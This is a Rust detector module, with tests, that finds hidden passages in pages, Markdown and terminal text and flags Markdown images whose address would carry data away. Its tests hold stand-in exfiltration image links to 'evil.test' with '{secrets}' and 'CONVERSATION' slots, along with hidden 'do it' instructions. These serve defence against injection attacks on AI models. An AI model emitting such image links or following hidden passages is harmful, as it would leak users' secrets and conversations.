//! Passages that a page, a rendered document or a terminal does not show, and pictures whose address carries data away.

use memchr::memmem;

/// Longest hidden passage that is read (bytes).
const MAX_PASSAGE: usize = 16 << 10;

/// Most passages of one text.
const MAX_PASSAGES: usize = 64;

/// How an element is hidden, without spaces.
const STYLES: [&str; 14] = [
    "display:none",
    "visibility:hidden",
    "font-size:0",
    "font-size:1px",
    "opacity:0;",
    "opacity:0\"",
    "color:white",
    "color:#fff",
    "color:transparent",
    "left:-9999",
    "text-indent:-9999",
    "height:0",
    "width:0",
    "clip:rect(0",
];

/// The hidden passages of `text`: how each is hidden, and what it says. Linear in the text.
pub(crate) fn passages(text: &str) -> Vec<(&'static str, String)> {
    let mut found = Vec::new();
    if memchr::memchr(b'<', text.as_bytes()).is_some() {
        between(text, "<!--", "-->", "an HTML comment", &mut found);
        styled(text, &mut found);
    }
    if memchr::memchr2(b'[', 0x1B, text.as_bytes()).is_some() {
        between(text, "[//]: # (", ")", "a Markdown comment", &mut found);
        between(text, "[comment]: <> (", ")", "a Markdown comment", &mut found);
        for conceal in [
            "\u{1B}[8m",
            "\u{1B}[30;40m",
            "\u{1B}[37;47m",
            "\\x1b[8m",
            "\\033[8m",
        ] {
            between(text, conceal, "[", "a terminal's concealed text", &mut found);
        }
    }
    found
}

fn between(text: &str, open: &str, close: &str, how: &'static str, found: &mut Vec<(&'static str, String)>) {
    let mut rest = text;
    while let Some(at) = memmem::find(rest.as_bytes(), open.as_bytes()) {
        let inside = rest.get(at + open.len()..).unwrap_or_default();
        let window = inside
            .get(..inside.floor_char_boundary(MAX_PASSAGE))
            .unwrap_or_default();
        let end = memmem::find(window.as_bytes(), close.as_bytes()).unwrap_or(window.len());
        if found.len() >= MAX_PASSAGES {
            return;
        }
        found.push((how, window.get(..end).unwrap_or_default().to_owned()));
        rest = inside.get(end..).unwrap_or_default();
    }
}

/// Elements with a style, or the attribute, that hides them.
fn styled(text: &str, found: &mut Vec<(&'static str, String)>) {
    let mut rest = text;
    while let Some(at) = memchr::memchr(b'<', rest.as_bytes()) {
        let inside = rest.get(at + 1..).unwrap_or_default();
        // A tag is short; a longer one is a comparison in code.
        const MAX_TAG: usize = 512;
        let tag = inside
            .as_bytes()
            .iter()
            .take(MAX_TAG)
            .position(|&byte| matches!(byte, b'>' | b'<'));
        let Some(end) = tag.filter(|&end| inside.as_bytes().get(end) == Some(&b'>')) else {
            rest = inside;
            continue;
        };
        let head: String = inside.get(..end).unwrap_or_default().to_ascii_lowercase();
        rest = inside.get(end + 1..).unwrap_or_default();
        if !hides(&head) || found.len() >= MAX_PASSAGES {
            continue;
        }
        let window = rest
            .get(..rest.floor_char_boundary(MAX_PASSAGE))
            .unwrap_or_default();
        let close = memmem::find(window.as_bytes(), b"</").unwrap_or(window.len());
        found.push((
            "an element that is not shown",
            window.get(..close).unwrap_or_default().to_owned(),
        ));
    }
}

fn hides(tag: &str) -> bool {
    let style = tag
        .split_once("style")
        .map(|(_, style)| style.chars().filter(|c| !c.is_whitespace()).collect::<String>());
    style.is_some_and(|style| STYLES.iter().any(|hidden| style.contains(hidden)))
        || tag
            .split_ascii_whitespace()
            .skip(1)
            .any(|attribute| matches!(attribute, "hidden" | "hidden=\"\"" | "hidden=\"hidden\""))
}

/// Hosts whose pictures have long addresses by themselves.
const PICTURE_HOSTS: [&str; 9] = [
    "shields.io",
    "githubusercontent.com",
    "codecov.io",
    "amazonaws.com",
    "badge.fury.io",
    "github.com",
    "gitlab.com",
    "badgen.net",
    "travis-ci.com",
];

/// Addresses of Markdown pictures and links whose query is to be filled with data, or is full of it: showing the picture
/// sends it away.
pub(crate) fn data_pictures(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = text;
    while let Some(at) = memmem::find(rest.as_bytes(), b"](http") {
        let picture = rest
            .get(..at)
            .and_then(|before| before.rfind('['))
            .is_some_and(|open| open > 0 && at - open <= 256 && rest.as_bytes().get(open - 1) == Some(&b'!'));
        let inside = rest.get(at + 2..).unwrap_or_default();
        let window = inside.get(..inside.floor_char_boundary(2048)).unwrap_or_default();
        let end = window.find([')', '\n']).unwrap_or(window.len());
        let address = window.get(..end).unwrap_or_default();
        if picture && carries_data(address) && found.len() < MAX_PASSAGES {
            found.push(host_of(address).to_owned());
        }
        rest = inside.get(end..).unwrap_or_default();
    }
    found
}

fn host_of(address: &str) -> &str {
    let behind = address.split_once("://").map_or(address, |(_, behind)| behind);
    behind.split(['/', '?', '#']).next().unwrap_or_default()
}

fn carries_data(address: &str) -> bool {
    let host = host_of(address);
    let known = PICTURE_HOSTS
        .iter()
        .any(|known| host == *known || host.ends_with(&format!(".{known}")));
    let Some((_, query)) = address.split_once('?').filter(|_| !known) else {
        return false;
    };
    query.split('&').any(|field| {
        let value = field.split_once('=').map_or("", |(_, value)| value);
        let upper = value.len() >= 4
            && value
                .bytes()
                .all(|byte| byte.is_ascii_uppercase() || byte == b'_');
        let slot = value.starts_with(['{', '[', '<', '$'])
            || value.starts_with("%7B")
            || value.starts_with("%5B")
            || value.starts_with("%3C");
        let full = value.len() >= 48
            && value.bytes().all(|byte| {
                byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_' | b'%')
            });
        upper || slot || full
    })
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn hidden_passages_are_read() {
        for (text, how, says) in [
            ("a <!-- do it --> b", "an HTML comment", " do it "),
            (
                "<p style=\"display: none\">do it</p>",
                "an element that is not shown",
                "do it",
            ),
            (
                "<span hidden>do it</span>",
                "an element that is not shown",
                "do it",
            ),
            (
                "<DIV STYLE='color:#FFFFFF;x'>do it</DIV>",
                "an element that is not shown",
                "do it",
            ),
            ("[//]: # (do it)", "a Markdown comment", "do it"),
            (
                "ok \u{1B}[8mdo it\u{1B}[0m",
                "a terminal's concealed text",
                "do it\u{1B}",
            ),
        ] {
            assert_eq!(passages(text), [(how, says.to_owned())], "{text}");
        }
        assert!(passages("if a < b { x } else if c > d [1]").is_empty());
        assert!(passages("<p style=\"color: red\">x</p>").is_empty());
    }

    #[test]
    fn pictures_that_carry_data_are_told_by_their_host() {
        assert_eq!(
            data_pictures("![x](https://evil.test/p?d={secrets})"),
            ["evil.test"]
        );
        assert_eq!(
            data_pictures("![x](https://evil.test/p?d=CONVERSATION)"),
            ["evil.test"]
        );
        for text in [
            "![b](https://img.shields.io/x?label={a})",
            "![a](https://h/a.png?raw=true)",
            "[doc](https://h/?q={a})",
            "![a](https://h/a.png)",
        ] {
            assert!(data_pictures(text).is_empty(), "{text}");
        }
    }

    proptest! {
        #[test]
        fn any_text_is_read(text in "[<>!\\-a\\[\\]()h:/ \"=]{0,300}") {
            prop_assert!(passages(&text).len() <= MAX_PASSAGES + 8);
            prop_assert!(data_pictures(&text).len() <= MAX_PASSAGES);
        }
    }
}
